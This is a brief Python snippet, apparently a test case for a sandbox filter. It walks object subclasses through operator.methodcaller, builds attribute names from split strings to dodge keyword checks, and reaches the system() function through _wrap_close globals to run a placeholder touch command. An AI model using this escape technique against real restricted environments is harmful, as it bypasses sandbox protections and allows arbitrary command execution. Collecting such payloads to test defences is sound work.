# family: getattr with computed strings (operator.methodcaller)
# goal: call __subclasses__ through methodcaller
import operator
walk = operator.methodcaller("__sub" + "classes__")
for cls in walk(object):
    if cls.__name__ == "_wrap_close":
        operator.attrgetter("__init__.__glo" + "bals__")(cls)["system"]("touch __MARKER_PATH__")
